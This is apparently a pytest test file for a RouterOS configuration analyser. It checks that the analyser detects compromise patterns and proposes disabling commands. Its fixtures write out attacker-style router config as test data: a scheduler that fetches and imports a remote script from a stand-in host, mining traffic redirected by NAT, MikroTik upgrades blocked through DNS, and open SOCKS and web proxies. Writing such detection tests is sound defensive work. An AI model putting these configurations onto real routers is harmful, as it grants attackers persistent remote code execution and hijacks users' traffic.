"""What only strangers set up, and what they may have: named with what ends it, and no more."""

from __future__ import annotations

import pytest

from rosexplain import explain, read_export
from rosexplain.report import Answer

FETCH = '"/tool fetch url=http://198.18.0.1/a.rsc; /import a.rsc"'
SEARCH = (
    "/ip firewall mangle\nadd action=add-dst-to-address-list address-list=pool "
    "chain=prerouting content=mining.submit protocol=tcp\n"
)
REDIRECT = (
    "/ip firewall nat\nadd action=dst-nat chain=dstnat dst-address-list=pool "
    "protocol=tcp to-addresses=198.18.0.1 to-ports=3333\n"
)
REACHED = (
    "/ip address\nadd address=198.18.0.2/24 interface=ether1\n"
    "add address=192.168.88.1/24 interface=ether2\n/ip route\nadd gateway=198.18.0.1\n"
)
UNBLOCK = '/ip/dns/static/disable [find name~".mikrotik.com" address~"^(127|0)"]'
KEPT = "add action=dst-nat chain=dstnat dst-port=443 protocol=tcp to-addresses=192.168.88.7\n"


@pytest.mark.parametrize(
    ("export", "typed"),
    [
        ("/system scheduler\nadd interval=1m name=a on-event=" + FETCH,
         ["/system/scheduler/disable [find name=a]"]),
        ("/system scheduler\nadd interval=1m name=a on-event=b\n"
         "/system script\nadd name=b source=" + FETCH, ["/system/scheduler/disable [find name=a]"]),
        ("/system scheduler\nadd interval=1m name=a on-event=c\n"
         "/system script\nadd name=b source=" + FETCH, []),
        ("/system scheduler\nadd interval=1d name=a on-event=\"/tool fetch url=https://198.18.0.1/a;"
         " /certificate import file-name=a\"", []),
        ('/system scheduler\nadd interval=1d name=a on-event="# important\\r\\n/tool fetch'
         ' url=https://198.18.0.1/ddns"', []),
        ('/system scheduler\nadd interval=1d name=a on-event="/tool fetch url=http://198.18.0.1/a\\r'
         '\\n:if (1=1) do={/import a}"', ["/system/scheduler/disable [find name=a]"]),
        ("/system scheduler\nadd disabled=yes interval=1m name=a on-event=" + FETCH, []),
        (SEARCH + REDIRECT + KEPT,
         ["/ip/firewall/mangle/disable [find where chain=prerouting"
          " action=add-dst-to-address-list !dynamic]",
          "/ip/firewall/nat/disable [find where chain=dstnat action=dst-nat dst-address-list=pool"
          " !dynamic]"]),
        (SEARCH + "/ip firewall raw\nadd action=drop chain=prerouting dst-address-list=pool", []),
        (SEARCH.replace("mining.submit", "films.example") + REDIRECT, []),
        (SEARCH.replace("mining.submit", "job.submit") + REDIRECT + KEPT,
         ["/ip/firewall/mangle/disable [find where chain=prerouting"
          " action=add-dst-to-address-list !dynamic]",
          "/ip/firewall/nat/disable [find where chain=dstnat action=dst-nat dst-address-list=pool"
          " !dynamic]"]),
        (SEARCH.replace("mining.submit", "job.submit") + KEPT, []),
        ("/ip dns static\nadd address=127.0.0.1 name=upgrade.mikrotik.com\n"
         "add address=127.0.0.1 name=notmikrotik.com", [UNBLOCK]),
        ("/ip dns static\nadd address=127.0.0.1 disabled=yes name=upgrade.mikrotik.com", []),
        ("/ip dns static\nadd address=127.0.0.1 name=notmikrotik.com", []),
        (REACHED + "/ip socks\nset enabled=yes port=4153", ["/ip/socks/set enabled=no"]),
        (REACHED + "/ip socks\nset auth-method=password enabled=yes version=5", []),
        (REACHED + "/ip socks\nset enabled=yes\n/ip socks access\nadd action=deny", []),
        (REACHED + "/ip socks\nset enabled=yes\n/ip socks access\n"
         "add action=deny src-address=198.18.5.0/24", ["/ip/socks/set enabled=no"]),
        (REACHED + "/ip socks\nset enabled=yes\n/ip socks access\n"
         "add action=allow src-address=192.168.88.0/24\n"
         "add action=deny src-address=0.0.0.0/0", []),
        (REACHED + "/ip socks\nset enabled=yes\n/ip socks access\n"
         "add action=deny src-address=!192.168.88.0/24", []),
        (REACHED + "/ip socks\nset enabled=yes\n/ip socks access\n"
         "add action=deny dst-port=25", ["/ip/socks/set enabled=no"]),
        ("/ip socks\nset port=4153", []),
        (REACHED + "/ip firewall nat\nadd action=masquerade chain=srcnat out-interface=ether1\n"
         "add action=redirect chain=dstnat dst-port=80 in-interface=ether2 protocol=tcp"
         " to-ports=3128\n/ip proxy\nset enabled=yes port=3128",
         ["/ip/firewall/filter/add chain=input action=drop protocol=tcp dst-port=3128"
          " in-interface=ether1"]),
        (REACHED + "/ip firewall filter\nadd action=drop chain=input dst-port=8080"
         " in-interface=ether1 protocol=tcp\n/ip firewall nat\n"
         "add action=masquerade chain=srcnat out-interface=ether1\n"
         "/ip proxy\nset enabled=yes port=8080,3128",
         ["/ip/firewall/filter/add chain=input action=drop protocol=tcp dst-port=8080,3128"
          " in-interface=ether1"]),
        (REACHED + "/ip proxy\nset enabled=yes\n/ip proxy access\nadd action=deny", []),
    ],
)  # fmt: skip
def test_a_remedy_ends_what_strangers_set_up_alone(export: str, typed: list[str]) -> None:
    read = read_export("# by RouterOS 7.20\n" + export + "\n", "export.rsc")
    rules = ("commands-fetched", "mining-redirected", "upgrades-blocked", "socks-on",
             "web-proxy-on")  # fmt: skip
    notes = Answer(explain([read])).plain()["notes"]
    commands = [command for note in notes if note["rule"] in rules for command in note["commands"]]
    assert commands == typed


@pytest.mark.parametrize(
    ("interval", "often"),
    [("10s", True), ("00:00:10", True), ("59s", True), ("1m", False), ("00:01:00", False),
     ("1m5s", False), ("1d10s", False), ("", False), ("soon", False), ("0s", False)],
)  # fmt: skip
def test_a_schedule_runs_often_below_a_minute(interval: str, often: bool) -> None:
    text = f"/system scheduler\nadd interval={interval} name=a on-event={FETCH}\n"
    assert ("fetched-often" in explain([read_export(text, "export.rsc")]).met) is often


LOADS = "/system package update check-for-updates once; /system package update download; "


@pytest.mark.parametrize(
    ("schedule", "again"),
    [
        ('interval=1d on-event="/system reboot"', True),
        (f'interval=1d on-event="{LOADS}/system reboot"', False),
        ('interval=0s on-event="/system reboot" start-time=04:00:00', False),
        ('on-event="/system reboot" start-time=04:00:00', False),
        ('interval=1m on-event=":if ([/ping 198.18.0.1 count=6] = 0) do={/system/reboot}"', True),
        ('interval=1d on-event=":log info reboot"', False),
    ],
)
def test_a_router_that_reboots_again_and_again(schedule: str, again: bool) -> None:
    read = read_export(f"# by RouterOS 7.20\n/system scheduler\nadd name=a {schedule}\n", "a.rsc")
    noticed = Answer(explain([read])).plain()["noticed"]
    assert ("reboots-again" in [row["rule"] for row in noticed]) == again
